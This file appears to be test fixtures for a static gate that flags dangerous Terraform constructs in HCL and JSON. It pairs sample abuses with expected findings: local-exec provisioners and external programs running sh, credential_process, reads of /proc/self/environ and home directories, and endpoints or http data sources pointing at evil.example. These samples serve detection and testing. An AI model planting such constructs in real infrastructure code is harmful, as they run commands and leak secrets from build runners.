"""What a hostile change could bring, in both syntaxes of HCL: the finding's word, the code, and a stack around it."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from runner.decisions.staticgate import Judgement, judged
from runner.decisions.staticgate_findings import Reading
from runner.decisions.staticgate_reading import StackPlace, read_stack
from runner.kit.tree import DictTree
from runner.model.environment import Allow
from runner.model.stack import EngineName
from runner.source.facts import CodeReader
from runner.source.gate_code import GateReader

STACK = "stacks/app"
LOCK = """
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:abc=", "zh:0123"]
}
"""
HARMLESS = """
terraform {
  required_version = ">= 1.5"
  required_providers { aws = { source = "hashicorp/aws", version = "~> 5.0" } }
  backend "s3" {
    bucket = "b"
    region = "eu-west-1"
  }
}
provider "aws" {
  region = "eu-west-1"
  default_tags { tags = { provisioner = "terraform", exec = "nothing" } }
}
variable "names" { default = ["a", "b"] }
locals {
  policy = "${path.module}/policies"
  words  = <<-EOT
    provisioner "local-exec" { command = "echo this is text" }
    EOT
}
# data "external" "e" { program = ["sh"] }
resource "aws_s3_bucket" "b" {
  for_each = toset(var.names)
  bucket   = each.key
  policy   = file("${local.policy}/p.json")
  dynamic "rule" {
    for_each = [1]
    content { url = "x" }
  }
  lifecycle { prevent_destroy = true }
}
resource "terraform_data" "d" { input = templatefile("words.tpl", { a = 1 }) }
module "near" { source = "../../modules/near" }
module "pinned" { source = "git::https://git.acme.dev/vpc.git//net?ref=0123456789012345678901234567890123456789" }
removed {
  from = aws_sqs_queue.old
  lifecycle { destroy = false }
}
moved {
  from = aws_s3_bucket.a
  to   = aws_s3_bucket.b
}
"""

TREE: Mapping[str, str] = {
    f"{STACK}/main.tf": HARMLESS,
    f"{STACK}/.terraform.lock.hcl": LOCK,
    f"{STACK}/prod.auto.tfvars": 'names = ["c"]\n',
    f"{STACK}/policies/p.json": "{}",
    f"{STACK}/words.tpl": "%{ for x in [1] }${a}%{ endfor }",
    "modules/near/main.tf": 'variable "x" { default = 1 }\n',
}

Block = Any


def _resource(inner: Block, kind: str = "terraform_data") -> Block:
    return {"resource": {kind: {"x": inner}}}


ABUSES: tuple[tuple[str, str, Block], ...] = (
    (
        "provisioner:local-exec",
        'resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "touch marker" }\n}',
        _resource({"provisioner": {"local-exec": {"command": "touch marker"}}}),
    ),
    (
        "provisioner:local-exec",
        'resource "terraform_data" "x" {\n provisioner "local-exec" {\n when = destroy\n command = "x"\n }\n}',
        _resource([{"provisioner": [[{"local-exec": [{"when": "destroy", "command": "x"}]}]]}]),
    ),
    (
        "provisioner:remote-exec",
        'resource "terraform_data" "x" {\n  provisioner remote-exec { inline = ["x"] }\n}',
        _resource({"provisioner": [{"remote-exec": {"inline": ["x"]}}]}),
    ),
    (
        "provisioner:file",
        'resource "terraform_data" "x" { provisioner "file" {} }',
        _resource({"provisioner": {"file": {}}}),
    ),
    (
        "provisioner:local-exec",
        'removed {\n  from = terraform_data.x\n  provisioner "local-exec" { when = destroy }\n}',
        {"removed": [{"from": "terraform_data.x", "provisioner": {"local-exec": {"when": "destroy"}}}]},
    ),
    (
        "external:external",
        'data "external" "x" { program = ["sh", "-c", "touch marker"] }',
        {"data": [{"external": {"x": {"program": ["sh"]}}}]},
    ),
    (
        "external:external",
        'check "c" {\n  data "external" "x" { program = ["sh"] }\n}',
        {"check": {"c": {"data": {"external": {"x": {"program": ["sh"]}}}}}},
    ),
    (
        "external:local_command",
        'action "local_command" "x" {\n  config { command = "sh" }\n}',
        {"action": {"local_command": {"x": {"config": {"command": "sh"}}}}},
    ),
    ("http:evil.example", 'data "http" "x" { url = "https://evil.example/" }', {"data": {"http": {"x": {"url": "https://evil.example/"}}}}),
    ("http:computed", 'data "http" "x" { url = "https://evil.example/${var.a}" }',
     {"data": {"http": {"x": {"url": "${var.url}"}}}}),
    (
        "exec:kubernetes",
        'provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}',
        {"provider": {"kubernetes": {"exec": {"command": "sh"}}}},
    ),
    (
        "exec:helm",
        'provider "helm" {\n kubernetes {\n dynamic "exec" {\n for_each = [1]\n content { command = "sh" }\n }\n }\n}',
        {"provider": [{"helm": [{"kubernetes": {"dynamic": {"exec": {"for_each": [1], "content": {"x": "x"}}}}}]}]},
    ),
    (
        "exec:helm",
        'provider "helm" { kubernetes = { "exec" = { command = "sh" } } }',
        {"provider": {"helm": {"kubernetes": "${{ exec = { command = \"sh\" } }}"}}},
    ),
    (
        "exec:helm",
        'provider "helm" { kubernetes = merge({ exec : { command = "sh" } }, var.more) }',
        {"provider": {"helm": {"kubernetes": "${merge({exec={command=\"sh\"}}, {})}"}}},
    ),
    ("exec:helm", 'provider "helm" { kubernetes = local.k }', {"provider": {"helm": {"kubernetes": "${local.k}"}}}),
    (
        "exec:helm",
        'provider "helm" { kubernetes = { (var.name) = { command = "sh" } } }',
        {"provider": {"helm": {"kubernetes": {"${var.name}": {"command": "sh"}}}}},
    ),
    (
        "exec:helm",
        'resource "helm_release" "x" {\n  postrender { binary_path = "./x.sh" }\n}',
        _resource({"postrender": {"binary_path": "./x.sh"}}, "helm_release"),
    ),
    (
        "exec:encryption",
        'terraform {\n  encryption {\n    key_provider "external" "x" { command = ["sh"] }\n  }\n}',
        {"terraform": {"encryption": {"key_provider": {"external": {"x": {"command": ["sh"]}}}}}},
    ),
    (
        "exec:aws",
        'provider "aws" { credential_process = "sh" }',
        {"provider": {"aws": [{"credential_process": "sh"}]}},
    ),
    (
        "credentials-file:aws",
        'provider "aws" { shared_config_files = ["${path.module}/aws.ini"] }',
        {"provider": {"aws": {"shared_config_files": ["./aws.ini"]}}},
    ),
    (
        "credentials-file:backend",
        'terraform {\n  backend "s3" { shared_config_files = ["x"] }\n}',
        {"terraform": {"backend": {"s3": {"shared_config_files": ["x"]}}}},
    ),
    (
        "credentials-file:kubernetes",
        'provider "kubernetes" { config_path = "./kubeconfig" }',
        {"provider": {"kubernetes": {"config_path": "./kubeconfig"}}},
    ),
    (
        "host:aws",
        'provider "aws" {\n  endpoints { s3 = "https://evil.example" }\n}',
        {"provider": {"aws": {"endpoints": {"s3": "https://evil.example"}}}},
    ),
    (
        "host:google",
        'provider "google" { storage_custom_endpoint = "https://evil.example" }',
        {"provider": {"google": {"storage_custom_endpoint": "https://evil.example"}}},
    ),
    (
        "host:cloud",
        'terraform {\n  cloud { hostname = "evil.example" }\n}',
        {"terraform": [{"cloud": {"hostname": "evil.example"}}]},
    ),
    (
        "host:terraform_remote_state",
        'data "terraform_remote_state" "x" {\n  backend = "http"\n  config  = { address = "https://evil.example" }\n}',
        {"data": {"terraform_remote_state": {"x": {"backend": "http", "config": {"address": "https://evil.example"}}}}},
    ),
    (
        "function:provider::x::run",
        'output "o" { value = provider::x::run(1) }',
        {"output": {"o": {"value": "a ${provider::x::run(1)}"}}},
    ),
    ("path:computed", 'locals { z = file /* ( */ (var.p) }', {"locals": {"z": "${file(var.p)}"}}),
    ("path:computed", 'locals { z = core::filebase64("${each.key}.b") }',
     {"locals": {"z": "${core::filebase64(each.key)}"}}),
    ("path:computed", 'locals { z = templatestring(local.words, {}) }',
     {"locals": {"z": "${templatestring(local.words, {})}"}}),
    ("path:outside", 'locals { z = file("/proc/self/environ") }', {"locals": {"z": "${file(\"/proc/self/environ\")}"}}),
    ("path:outside", 'locals { z = file("${path.module}/../../../x") }',
     {"locals": {"z": "${file(\"${path.module}/../../../x\")}"}}),
    ("path:outside", 'locals { z = fileset(pathexpand("~"), "**") }', {"locals": {"z": "${fileset(\"~\", \"**\")}"}}),
    ("path:outside", 'data "local_file" "x" { filename = "/proc/self/environ" }',
     {"data": {"local_file": {"x": {"filename": "/proc/self/environ"}}}}),
    ("path:computed", 'check "c" {\n  data "archive_file" "x" { source_dir = var.d }\n}',
     {"data": {"archive_file": {"x": {"source_dir": "${var.d}"}}}}),
    ("http:evil.example", 'data "dns_a_record_set" "x" { host = "evil.example" }',
     {"data": {"dns_a_record_set": {"x": {"host": "evil.example"}}}}),
    ("module:computed", 'module "m" { source = "../${var.m}" }', {"module": {"m": {"source": "../${var.m}"}}}),
    ("module:outside", 'module "m" { source = "../../../m" }', {"module": {"m": {"source": "../../../m"}}}),
    ("module:unseen", 'module "m" { source = "./nowhere" }', {"module": {"m": {"source": "./nowhere"}}}),
    ("module:acme/vpc/aws", 'module "m" {\n  source  = "acme/vpc/aws"\n  version = "~> 1.0"\n}',
     {"module": {"m": {"source": "acme/vpc/aws"}}}),
    (
        "module:git::https://git.acme.dev/x.git?ref=v1",
        'module "m" { source = "git::https://git.acme.dev/x.git?ref=v1" }',
        {"module": {"m": {"source": "git::https://git.acme.dev/x.git?ref=v1"}}},
    ),
    (
        "provider:evil/aws",
        'terraform {\n  required_providers { aws2 = { source = "evil/aws" } }\n}',
        {"terraform": {"required_providers": {"aws2": {"source": "evil/aws"}}}},
    ),
    ("provider:hashicorp/evil", 'resource "aws_x" "y" { provider = evil.z }', _resource({"provider": "evil"})),
)  # fmt: skip


def reading_of(
    files: Mapping[str, str | bytes | None],
    *,
    engine: EngineName = EngineName.TERRAFORM,
    links: Mapping[str, str] | None = None,
) -> Reading:
    """The stack of `TREE` with `files` over it; None takes a file out."""
    whole = {path: content for path, content in {**TREE, **files}.items() if content is not None}
    tree = DictTree(whole, links)
    return read_stack(StackPlace(directory=STACK, engine=engine), GateReader(CodeReader(tree), tree))


def judgement_of(
    files: Mapping[str, str | bytes | None], allow: Allow | None = None, **more: Any
) -> Judgement:
    """What the gate says of it."""
    return judged(reading_of(files, **more), allow or Allow())


def words_of(judgement: Judgement) -> set[str]:
    """The words of what nobody admitted."""
    return {each.word for each in judgement.closed}


def forms() -> list[tuple[str, str, str]]:
    """Each abuse as (word, name of a file, its content)."""
    return [
        *((word, "evil.tf", code) for word, code, _ in ABUSES),
        *((word, "evil.tf.json", json.dumps(block)) for word, _, block in ABUSES),
    ]
